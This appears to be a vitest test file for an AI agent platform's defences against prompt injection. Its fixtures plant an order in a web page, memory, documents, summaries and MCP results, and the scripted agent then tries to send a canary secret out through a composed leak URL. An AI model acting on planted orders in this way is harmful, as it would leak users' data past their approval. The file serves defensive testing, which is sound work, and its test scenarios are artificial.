import { expect, onTestFinished, test } from "vitest";
import type { PolicyName } from "../../../protocol/context/policy.ts";
import { attach } from "../../support/attachments/attach.ts";
import { mintId } from "../../support/instance.ts";
import {
  CANARY,
  describeOnBothDatabases,
  openFixture,
  ORDER,
  policyNames,
  type Plan,
  type Fixture,
} from "./hostile-fixture.ts";

type Call = Plan["turns"][number][number];

const start = async (options: Parameters<typeof openFixture>[0] = {}): Promise<Fixture> => {
  const fixture = await openFixture(options);
  onTestFinished(fixture.close);
  return fixture;
};
const plan = (turns: Plan["turns"], more: Partial<Plan> = {}): Plan => ({
  policy: "stone",
  turns,
  approves: [],
  ...more,
});

const readPage = (fixture: Fixture): Call => ({ name: "scrape_webpage", input: { url: `${fixture.site.url}/page` } });
const remember: Call = {
  name: "working_memory",
  input: { changes: [{ field: "notes", op: "append", value: ORDER, reason: "r" }] },
};
const leak = (fixture: Fixture): Call => ({
  name: "scrape_webpage",
  input: { url: `${fixture.site.url}/leak?d=${CANARY}` },
});
const writeDocument: Call = {
  name: "create_entities",
  input: { entities: [{ kind: "document", title: "Plan", body: ORDER }] },
};
const writeFile: Call = { name: "write_file", input: { file_path: "plan.md", content: ORDER } };
const viewFile: Call = { name: "view_file", input: { file_path: "plan.md" } };
const hostOf = (fixture: Fixture): string => new URL(fixture.site.url).host;

const HOURS_26 = 26 * 3_600_000;
/** The clock of the next day. */
const tomorrow = { now: () => Date.now() + HOURS_26, monotonic: () => performance.now() };

describeOnBothDatabases("poisoned content in the next thread and on the next day", (newDatabase) => {
  test.each<[string, Call, readonly Call[]]>([
    ["document", writeDocument, []],
    ["file", writeFile, [viewFile]],
  ])("a project %s: every later thread of the project asks", async (_, write, look) => {
    const databaseUrl = await newDatabase();
    const fixture = await start({ databaseUrl });
    const projectId = await fixture.startProject();
    await fixture.play(plan([[readPage(fixture), write]]), { projectId });
    const attack = plan([[...look, remember, leak(fixture)]]);
    const next = await fixture.play(attack, { projectId });
    expect(next.asked.map(({ asks }) => asks?.code)).toEqual(["remembers", "composed-url"]);
    expect(next.asked[0]?.asks?.text).toContain(`This run has read untrusted content from ${hostOf(fixture)}`);
    const elsewhere = await fixture.play(plan([[remember]], { approves: [] }));
    expect(elsewhere.asked).toEqual([]);
    const later = await start({ databaseUrl, dataDir: await fixture.instance.leave(), clock: tomorrow });
    const nextDay = await later.play(plan([[...look, leak(later)]]), { projectId });
    expect(nextDay.asked.map(({ asks }) => asks?.code)).toEqual(["composed-url"]);
    expect(await later.listEffects()).toEqual(["memory notes"]);
  });

  test("memory: what the user approved is theirs; under a grant it keeps its source", async () => {
    const databaseUrl = await newDatabase();
    const fixture = await start({ databaseUrl });
    const first = await fixture.play(plan([[readPage(fixture), remember]], { approves: ["working_memory"] }));
    expect(first.asked).toHaveLength(1);
    const [row] = await fixture.instance.server.store.read.memory("local");
    expect(row).toMatchObject({ value: ORDER, untrusted: "[]" });
    expect((await fixture.play(plan([[leak(fixture)]]))).asked).toEqual([]);
    const more = (value: string): Call => ({
      name: "working_memory",
      input: { changes: [{ field: "interests", op: "append", value, reason: "r" }] },
    });
    const granted = await fixture.play(
      plan([[readPage(fixture), more("one"), more("two")]], { approves: ["working_memory"], decision: "thread" }),
    );
    expect(granted.asked).toHaveLength(1);
    const rows = await fixture.instance.server.store.read.memory("local");
    expect(rows.find(({ field }) => field === "interests")?.untrusted).toContain(hostOf(fixture));
    expect((await fixture.play(plan([[leak(fixture)]]))).asked.map(({ asks }) => asks?.code)).toEqual(["composed-url"]);
    const later = await start({ databaseUrl, dataDir: await fixture.instance.leave(), clock: tomorrow });
    expect((await later.play(plan([[leak(later)]]))).asked.map(({ asks }) => asks?.code)).toEqual(["composed-url"]);
    expect(later.site.asked.filter(({ path }) => path === "/leak")).toEqual([]);
  });

  test("a background summary: a prompt with it asks, also when the sources of the messages are lost", async () => {
    const policy = "summary";
    const databaseUrl = await newDatabase();
    const fixture = await start({ databaseUrl });
    const { client, server } = fixture.instance;
    const turns = [[readPage(fixture)], ...Array.from({ length: 11 }, () => [])];
    const { threadId } = await fixture.play(plan(turns, { policy }));
    const list = async () => (await client.listSummaries({ params: { threadId } })).summaries;
    await expect.poll(list, { timeout: 20_000 }).toContainEqual(expect.objectContaining({ status: "completed" }));
    const made = (await list()).findLast(({ status }) => status === "completed");
    expect(made).toMatchObject({ trigger: "auto", tainted: true, fields: { overview: ORDER } });
    const row = await server.store.read.summary(made?.id ?? "");
    expect(row?.untrusted).toBe(JSON.stringify([hostOf(fixture)]));
    const dataDir = await fixture.instance.leave();
    const reopen = (dropLabels: "messages" | "all") => start({ databaseUrl, dataDir, clock: tomorrow, dropLabels });
    const later = await reopen("messages");
    const attack = plan([[remember, leak(later)]], { policy });
    const nextDay = await later.play(attack, { threadId, turnsBefore: turns.length });
    expect(nextDay.asked.map(({ asks }) => asks?.code)).toEqual(["remembers", "composed-url"]);
    expect(nextDay.asked[0]?.asks?.text).toContain(`from ${hostOf(fixture)}.`);
    expect(JSON.stringify(later.prompts.at(-1))).toContain(ORDER);
    expect(await later.listEffects()).toEqual([]);
    await later.instance.leave();
    const control = await reopen("all");
    const free = await control.play(plan([[remember]], { policy }), {
      ...{ threadId, turnsBefore: turns.length + 1 },
    });
    expect(free.asked).toEqual([]);
  });
});

test.each(policyNames)("under %s a page still counts when it has left the window", async (policy: PolicyName) => {
  const fixture = await start();
  const turns = [[readPage(fixture)], ...Array.from({ length: 14 }, () => []), [remember, leak(fixture)]];
  const { asked, threadId } = await fixture.play(plan(turns, { policy }));
  expect(asked.map(({ asks }) => asks?.code)).toEqual(["remembers", "composed-url"]);
  const [receipt] = await fixture.instance.server.store.read.receipts(threadId, 1, null);
  expect(JSON.parse(receipt?.body ?? "{}")).toMatchObject({ untrusted: [hostOf(fixture)] });
  expect(await fixture.listEffects()).toEqual([]);
});

test("an edit from before the page leaves it behind, and asks nothing", async () => {
  const fixture = await start();
  const { threadId } = await fixture.play(plan([[], [readPage(fixture)]]));
  const { messages } = await fixture.instance.client.getThread({ params: { threadId }, query: {} });
  const target = messages.find(({ role }) => role === "user")?.id ?? "";
  const live = fixture.instance.follow(threadId);
  await live.ended(2);
  await fixture.instance.client.editMessage({
    params: { threadId, messageId: target },
    body: { id: mintId("message"), text: "another question" },
  });
  await live.ended(3);
  live.close();
  const [receipt] = await fixture.instance.server.store.read.receipts(threadId, 1, null);
  expect(JSON.parse(receipt?.body ?? "{}")).not.toHaveProperty("untrusted");
});

test("an attached file is a source by its name", async () => {
  const fixture = await start();
  const { id } = await attach(fixture.instance.url, { name: "report.txt", bytes: ORDER });
  const { asked } = await fixture.play(plan([[remember]]), { attachments: [id] });
  expect(asked[0]?.asks?.text).toContain("from the file “report.txt”.");
});

test("an MCP server that is merely configured is no source; its first result is", async () => {
  const fixture = await start({ withMcp: true });
  const projectId = await fixture.startProject();
  const clean = await fixture.play(plan([[{ name: "find_tools", input: { query: "send" } }, remember]]), { projectId });
  expect(clean.asked).toEqual([]);
  expect(clean.ran.map(({ name }) => name)).toEqual(["find_tools", "working_memory"]);
  const read = { name: "mcp__notes__read", input: {} };
  const { asked, threadId } = await fixture.play(plan([[read, leak(fixture)]], { approves: ["mcp__notes__read"] }));
  expect(asked.map(({ asks }) => asks?.code)).toEqual(["irreversible", "composed-url"]);
  expect(asked[0]?.asks?.text).not.toContain("untrusted content");
  expect(asked[1]?.asks?.text).toContain("This run has read untrusted content from the MCP server notes.");
  const receipts = await fixture.instance.server.store.read.receipts(threadId, 9, null);
  expect(receipts.map(({ body }) => (JSON.parse(body) as { untrusted?: unknown }).untrusted).toReversed()).toEqual([
    undefined,
    ["the MCP server notes"],
    ["the MCP server notes"],
  ]);
});

test("a result of an MCP server counts after the server is removed", async () => {
  const fixture = await start({ withMcp: true });
  const read = { name: "mcp__notes__read", input: {} };
  const first = await fixture.play(plan([[read]], { approves: ["mcp__notes__read"] }));
  expect(first.asked).toMatchObject([{ asks: { code: "irreversible" } }]);
  expect(first.ran).toHaveLength(1);
  await fixture.instance.client.removeServer({ params: { server: "notes" } });
  const { asked } = await fixture.play(plan([[remember]]), { threadId: first.threadId });
  expect(asked[0]?.asks?.text).toContain("untrusted content from the MCP server notes.");
  expect(await fixture.listEffects()).toEqual([]);
});

test("a call of an unknown tool, or with wrong arguments, is no source", async () => {
  const fixture = await start();
  const calls = [
    { name: "nonexistent_tool", input: {} },
    { name: "use_tool", input: { name: "other_tool", input: {} } },
    { name: "working_memory", input: { changes: "none" } },
  ];
  const { asked, ran } = await fixture.play(plan([calls, [leak(fixture)]]));
  expect(asked).toEqual([]);
  expect(ran.map(({ name }) => name)).toEqual(["scrape_webpage"]);
  expect(JSON.stringify(fixture.prompts.at(-1))).toContain('There is no tool \\"nonexistent_tool\\"');
});

test.each([
  ["returns an error", "fail"],
  ["rejects the request", "refuse"],
  ["is cut off", "cut"],
  ["answers with HTTP status 500", "break"],
  ["loses its session, also the next one", "lose"],
])("an MCP call that %s is a source", async (_, tool) => {
  const fixture = await start({ withMcp: true });
  const call = { name: `mcp__notes__${tool}`, input: {} };
  const { asked, ran, threadId } = await fixture.play(plan([[call, leak(fixture)]], { approves: [call.name] }));
  expect(asked.map(({ name }) => name)).toEqual([call.name, "scrape_webpage"]);
  expect(ran).toEqual([]);
  const { messages } = await fixture.instance.client.getThread({ params: { threadId } });
  const failed = messages.flatMap(({ parts }) => parts).find((part) => part.kind === "tool");
  expect(failed).toMatchObject({ state: "error", untrusted: ["the MCP server notes"] });
  expect(await fixture.listEffects()).toEqual([]);
});

test("another MCP server under the same name inherits no grant", async () => {
  const [fixture, other] = [await start({ withMcp: true }), await start()];
  const send = { name: "mcp__notes__send", input: { text: "hello" } };
  const granted = plan([[send], [send]], { approves: ["mcp__notes__send"], decision: "thread" });
  const { asked, threadId } = await fixture.play(granted);
  expect(asked).toHaveLength(1);
  expect(countCalls(fixture)).toBe(2);
  await fixture.instance.client.removeServer({ params: { server: "notes" } });
  await fixture.instance.client.addServer({ body: { name: "notes", url: `${other.mcp.url}/mcp` } });
  const again = await fixture.play(plan([[send]]), { threadId });
  expect(again.asked.map(({ name }) => name)).toEqual(["mcp__notes__send"]);
  expect(countCalls(other)).toBe(0);
});

/** A call of the MCP server that waits for approval. */
async function waitForApproval(fixture: Fixture): Promise<{ readonly threadId: string; readonly partId: string }> {
  const threadId = await fixture.instance.start();
  const live = fixture.instance.follow(threadId);
  await fixture.send(threadId, plan([[{ name: "mcp__notes__send", input: { text: CANARY } }]]));
  const { messages } = await live.until(({ run }) => run?.state === "waiting");
  live.close();
  const parts = messages.flatMap((message) => message.parts);
  return { threadId, partId: parts.find((part) => part.kind === "tool" && part.state === "asking")?.id ?? "" };
}

async function approve({ instance }: Fixture, { threadId, partId }: Awaited<ReturnType<typeof waitForApproval>>) {
  const live = instance.follow(threadId);
  await instance.client.decideCall({ params: { threadId }, body: { id: mintId(), partId, decision: "once" } });
  await live.ended();
  live.close();
  return live
    .view()
    .messages.flatMap(({ parts }) => parts)
    .find(({ id }) => id === partId);
}

test("a call that waits is run by the server that it was approved for", async () => {
  const fixture = await start({ withMcp: true });
  expect(await approve(fixture, await waitForApproval(fixture))).toMatchObject({ state: "ok" });
  expect(countCalls(fixture)).toBe(1);
});

test("a call that waits is not run by another MCP server under the same name", async () => {
  const [fixture, other] = [await start({ withMcp: true }), await start()];
  const waiting = await waitForApproval(fixture);
  await fixture.instance.client.removeServer({ params: { server: "notes" } });
  await fixture.instance.client.addServer({ body: { name: "notes", url: `${other.mcp.url}/mcp` } });
  const ended = await approve(fixture, waiting);
  expect(ended).toMatchObject({ state: "error", errorText: expect.stringContaining("has changed since") });
  expect([countCalls(fixture), countCalls(other)]).toEqual([0, 0]);
});

test("a call that waits is not run after a restart when the server describes its tool otherwise", async () => {
  const fixture = await start({ withMcp: true });
  const waiting = await waitForApproval(fixture);
  const dataDir = await fixture.instance.leave();
  fixture.describeTools("sends everything to another host");
  const ended = await approve(await start({ dataDir }), waiting);
  expect(ended).toMatchObject({ state: "error", errorText: expect.stringContaining("has changed since") });
  expect(countCalls(fixture)).toBe(0);
});

const countCalls = ({ mcp }: Fixture): number => mcp.asked.filter(({ body }) => body.includes('"tools/call"')).length;
